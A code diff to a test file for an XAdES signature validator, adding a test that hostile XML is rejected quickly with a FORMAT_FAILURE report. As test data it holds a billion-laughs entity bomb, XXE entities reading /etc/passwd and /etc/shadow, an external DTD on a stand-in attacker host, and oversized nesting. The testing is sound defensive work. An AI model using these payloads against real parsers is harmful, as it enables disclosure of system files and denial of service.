@@ -1,6 +1,6 @@
 import { describe, it, expect, beforeAll, afterAll } from 'vitest';
 import { spawnSync } from 'node:child_process';
-import { signXades } from '../../src/sign/index.js';
+import { signXades, validateFile } from '../../src/sign/index.js';
 import { parseXml } from '../../src/sign/xades/parse.js';
 import { openLab, save, type Lab } from './fixtures.js';
 
@@ -41,5 +41,28 @@ describe('XAdES B-B enveloped', () => {
     const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
     for (const bad of [laughs, xxe]) expect(() => parseXml(bad)).toThrow(expect.objectContaining({ code: 'malformed_xml' }));
     expect(() => parseXml('<a><b></a>')).toThrow(expect.objectContaining({ code: 'malformed_xml' }));
+  });
+
+  it('validation of hostile XML is a clear FORMAT_FAILURE report in bounded time: billion laughs, external entities and DTDs, deep nesting, millions of elements', async () => {
+    const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
+    const signer = await lab.signer('/CN=Đoàn Văn Hùng/O=Bộ Tư pháp/C=VN');
+    const signed = (await signXades(EDXML, signer)).replace(/^<\?xml[^>]*>/, '');
+    const cases: [string, string, RegExp][] = [
+      ['billion laughs', `<?xml version="1.0"?><!DOCTYPE edXML [${lol}]><edXML>&lol9;</edXML>`, /document type declaration is refused/],
+      ['an external entity (XXE)', `<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><edXML>&x;</edXML>`, /document type declaration is refused/],
+      ['a parameter entity and an external DTD', `<!DOCTYPE edXML SYSTEM "http://attacker.invalid/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]>${signed}`, /document type declaration is refused/],
+      ['a signature nested 100 000 deep', `${'<a>'.repeat(100_000)}${signed}${'</a>'.repeat(100_000)}`, /nested deeper than 256/],
+      ['1.5 million elements (15 MB)', `<edXML>${'<b x="1"/>'.repeat(1_500_000)}${signed}</edXML>`, /more than 100000 elements/],
+    ];
+    for (const [name, xml, message] of cases) {
+      const t = Date.now();
+      const r = await validateFile(Buffer.from(xml), { trustAnchors: [lab.root] });
+      expect(Date.now() - t, name).toBeLessThan(3_000);
+      expect(r.signatures, name).toHaveLength(1);
+      expect(r.signatures[0], name).toMatchObject({ indication: 'TOTAL-FAILED', subIndication: 'FORMAT_FAILURE', message: expect.stringMatching(message) });
+      expect(JSON.stringify(r), name).not.toMatch(/root:|lollol/);
+    }
+    // the same document without the hostile wrapping still validates
+    expect((await validateFile(Buffer.from(signed), { trustAnchors: [lab.root] })).signatures[0].indication).toBe('TOTAL-PASSED');
   });
 });
